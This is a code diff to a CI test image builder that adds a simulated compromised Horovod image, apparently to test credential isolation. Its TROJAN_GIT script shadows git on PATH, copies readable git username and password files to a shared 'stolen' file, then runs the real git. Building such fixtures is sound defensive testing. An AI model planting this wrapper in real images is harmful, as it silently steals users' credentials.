@@ -53,6 +53,17 @@ NON_ROOT_IMAGE = "ci-runner.invalid/debian-mpi-non-root:bookworm"
 HOROVOD_IMAGE = "horovod/horovod:0.28.1"  # the stock name train.yaml files write
 HOROVOD_NON_ROOT_IMAGE = "ci-runner.invalid/horovod-non-root:0.28.1"
 STOCK_PYTHON_IMAGE = "ci-runner.test/horovod-stock-python:0.28.1"
+# The Horovod image as a compromised one would be: a git first on PATH that copies whatever of the
+# git credential it can read to where every rank reads, then runs git.
+TROJAN_GIT_IMAGE = "ci-runner.test/horovod-trojan-git:0.28.1"
+STOLEN = "/ci-runner/stolen"
+TROJAN_GIT = f"""#!/bin/sh
+for file in /ci-runner-git/username /ci-runner-git/password; do
+    if [ -r "$file" ]; then cat "$file" >>{STOLEN}; fi
+done
+printf 'trojan git ran: %s\\n' "$*" >>{STOLEN}.log
+exec /usr/bin/git "$@"
+"""
 NON_ROOT_UID = 1000
 WORKDIR = "/horovod/examples"
 ENV = {
@@ -161,6 +172,7 @@ class Layers:
     sshd: Path
     account: Path
     stock_python: Path
+    trojan_git: Path
 
 
 def _site_pip(venv: Path) -> list[str]:
@@ -181,11 +193,16 @@ def _small_layers(cache: Path, scratch: Path, venv: Path) -> Layers:
     _account_tree(account, etc)
     stock = scratch / "stock-python"
     _stock_python_tree(stock, stockpip.stock_pip_wheel(cache), _site_pip(venv))
+    trojan = scratch / "trojan-git"
+    (trojan / "usr" / "local" / "bin").mkdir(parents=True)
+    (trojan / "usr" / "local" / "bin" / "git").write_text(TROJAN_GIT)
+    (trojan / "usr" / "local" / "bin" / "git").chmod(0o755)
     return Layers(
         base,
         imagestore.layer_from_dir(sshd, scratch / "sshd.tar"),
         imagestore.layer_from_dir(account, scratch / "account.tar"),
         imagestore.layer_from_dir(stock, scratch / "stock-python.tar"),
+        imagestore.layer_from_dir(trojan, scratch / "trojan-git.tar"),
     )
 
 
@@ -207,6 +224,7 @@ def _images(layers: Layers, site: Path) -> list[Named]:
             config({**HOROVOD_ENV, **home}, user),
         ),
         Named(STOCK_PYTHON_IMAGE, [base, sshd, site, layers.stock_python], config(HOROVOD_ENV)),
+        Named(TROJAN_GIT_IMAGE, [base, sshd, site, layers.trojan_git], config(HOROVOD_ENV)),
     ]
 
 
@@ -217,7 +235,8 @@ def source(cache: Path, venv: Path) -> Source:
     with tempfile.TemporaryDirectory() as tmp:
         layers = _small_layers(cache, Path(tmp), venv)
         inputs = [layers.base.name, imagestore.FORMAT, sitelayer.key(venv)]
-        inputs += [imagestore.digest(p) for p in (layers.sshd, layers.account, layers.stock_python)]
+        small = (layers.sshd, layers.account, layers.stock_python, layers.trojan_git)
+        inputs += [imagestore.digest(p) for p in small]
         for named in _images(layers, layers.base):
             inputs += [named.name, json.dumps(named.config.as_json([]), sort_keys=True)]
     key = "images-" + hashlib.sha256("\n".join(inputs).encode()).hexdigest()[:16]
